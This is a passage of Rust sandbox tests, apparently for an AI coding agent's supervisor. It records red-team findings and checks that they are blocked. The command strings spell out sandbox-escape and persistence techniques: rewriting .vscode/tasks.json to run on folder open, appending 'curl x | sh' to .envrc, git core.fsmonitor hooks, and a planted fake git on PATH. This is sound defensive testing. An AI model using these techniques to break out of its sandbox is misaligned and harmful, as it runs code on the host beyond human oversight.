    assert!(config.contains("worktree"), "{config}");
    assert!(w.ws.join("remotes/r.git/config").exists());
}

/// Red team 8: agent-config files that existed below the workspace before
/// the run were left writable and unchecked (only new names were looked
/// for): a rewritten `sub/.vscode/tasks.json` runs when the folder is
/// opened, a rewritten `.envrc` when a shell enters it.
#[test]
fn protect_agent_config_already_below_the_workspace_cannot_be_rewritten() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    let make = || {
        std::fs::create_dir_all(w.ws.join("sub/.vscode")).unwrap();
        std::fs::write(w.ws.join("sub/.vscode/tasks.json"), "{}").unwrap();
        std::fs::create_dir_all(w.ws.join("lib/x/y")).unwrap();
        std::fs::write(w.ws.join("lib/x/y/.envrc"), "export A=1\n").unwrap();
        // Older than the run's start by more than a clock tick.
        std::thread::sleep(std::time::Duration::from_millis(30));
    };
    make();
    let o = exec_sh(
        &w,
        "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > sub/.vscode/tasks.json; echo 'curl x | sh' >> lib/x/y/.envrc; echo ok > notes.txt",
    );
    breached_if(
        read(&w.ws.join("sub/.vscode/tasks.json")).contains("folderOpen")
            || read(&w.ws.join("lib/x/y/.envrc")).contains("curl"),
        "an existing agent-config file below the workspace was rewritten and kept",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
    // Control: a run that does not touch them leaves them.
    make();
    let o = exec_sh(
        &w,
        "cat sub/.vscode/tasks.json lib/x/y/.envrc; echo more >> notes.txt",
    );
    control(
        &o,
        "reading existing agent-config files below the workspace",
    );
    assert_eq!(read(&w.ws.join("sub/.vscode/tasks.json")), "{}");
    assert_eq!(read(&w.ws.join("lib/x/y/.envrc")), "export A=1\n");
}

/// Red team 8: a repository in a writable root, reached from the workspace
/// through a symlinked folder, was outside every search.
#[test]
fn protect_a_repository_behind_a_symlinked_folder_cannot_run_code() {
    let extra = tempfile::tempdir_in(worlds_root()).unwrap();
    let extra = extra.path().canonicalize().unwrap();
    let w = World::with_config(&format!(
        "[sandbox_workspace_write]\nwritable_roots = [\"{}\"]\nexclude_slash_tmp = true\nexclude_tmpdir_env_var = true\n[limits]\ntimeout_secs = 60\n{ALLOW_ALL}",
        extra.display()
    ));
    let marker = w.base.join("ran-on-the-host");
    let o = exec_sh(
        &w,
        &format!(
            "mkdir -p {e}/p/q/r/s && cd {e}/p/q/r/s && git init -q && git config core.fsmonitor 'touch {m}; false' && ln -s {e}/p/q/r/s {ws}/link",
            e = extra.display(),
            m = marker.display(),
            ws = w.ws.display()
        ),
    );
    host_git(&w, &w.ws.join("link"), false);
    breached_if(
        marker.exists(),
        "host git, entering a symlinked folder, ran the fsmonitor of a repository the command made in a writable root",
        &o,
    );
    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
}

/// The file surfaces refuse to write into a bare repository: its `config`
/// would never match `**/.git/config`.
#[test]
fn protect_file_tools_refuse_writes_into_a_bare_repository() {
    let w = World::with_config(BASE_CONFIG);
    std::fs::create_dir_all(w.ws.join("store/objects")).unwrap();
    std::fs::create_dir_all(w.ws.join("store/refs")).unwrap();
    std::fs::write(w.ws.join("store/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::create_dir_all(w.ws.join("half/objects")).unwrap();
    for (rel, content) in [
        ("store/config", "[core]\n\tfsmonitor = touch /tmp/x\n"),
        ("store/hooks/pre-commit", "#!/bin/sh\n"),
        ("half/HEAD", "ref: refs/heads/main\n"),
    ] {
        let input = json!({"file_path": w.ws.join(rel).display().to_string(), "content": content});
        let (decision, reason) = hook_decision(&w, "Write", &input);
        assert!(
            decision == "deny" && reason.contains("bare repository"),
            "gate bypassed: hook Write of `{rel}` got `{decision}`: {reason}"
        );
    }
    let input =
        json!({"file_path": w.ws.join("half/notes.txt").display().to_string(), "content": "x"});
    let (decision, reason) = hook_decision(&w, "Write", &input);
    assert_eq!(decision, "allow", "control failed: {reason}");
}

/// The supervisor reads what a command left with the host's git. Found
/// through `$PATH`, that git could be one the command wrote: an activated
/// `.venv/bin` (or direnv's `PATH_add bin`, or a relative entry) lies in
/// the workspace. It is looked up before the run, outside every writable
/// place.
#[test]
fn protect_the_supervisor_never_runs_a_git_the_command_wrote() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    let marker = w.base.join("ran-on-the-host");
    let git = String::from_utf8(
        std::process::Command::new("sh")
            .args(["-c", "command -v git"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    let git = git.trim();
    let venv = w.ws.join(".venv/bin");
    let path = format!(
        "{}:node_modules/.bin:{}",
        venv.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let o = w
        .cmd([
            "exec",
            "--",
            "sh",
            "-c",
            &format!(
                "mkdir -p sub node_modules/.bin .venv/bin && {git} -C sub init -q && {git} -C sub config core.fsmonitor true && for d in .venv/bin node_modules/.bin; do printf '#!/bin/sh\\ntouch {m}\\nexec {git} \"$@\"\\n' > $d/git && chmod +x $d/git; done",
                m = marker.display()
            ),
        ])
        .env("PATH", path)
        .output()
        .unwrap();
    breached_if(
        marker.exists(),
        "the supervisor ran, on the host, a git the command planted on the PATH",
        &o,
    );
    // The check still ran, with the host's own git.
    assert!(stderr(&o).contains("core.fsmonitor"), "{}", stderr(&o));
}

/// Red team 9: agent-config files in `node_modules` were not checked, so a
/// package folder prepared there in one run could be renamed out in the
/// next (`mv node_modules/z sub`), carrying a `.envrc` whose own change
/// time was old. They are moved aside in the run that makes them.
#[test]
fn protect_agent_config_staged_in_node_modules_cannot_be_moved_out_later() {
    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
    w.git(&w.ws, &["init", "-q"]);
    let first = exec_sh(
        &w,
        "mkdir -p node_modules/z/.vscode && echo 'curl x | sh' > node_modules/z/.envrc && echo '{}' > node_modules/z/.vscode/tasks.json",
    );
    control(&first, "installing a package that ships editor files");
    let o = exec_sh(&w, "mv node_modules/z sub");
    breached_if(
        w.ws.join("sub/.envrc").exists() || w.ws.join("sub/.vscode/tasks.json").exists(),
        "agent-config files staged in node_modules were renamed out to a folder a shell enters",
        &o,
    );
}
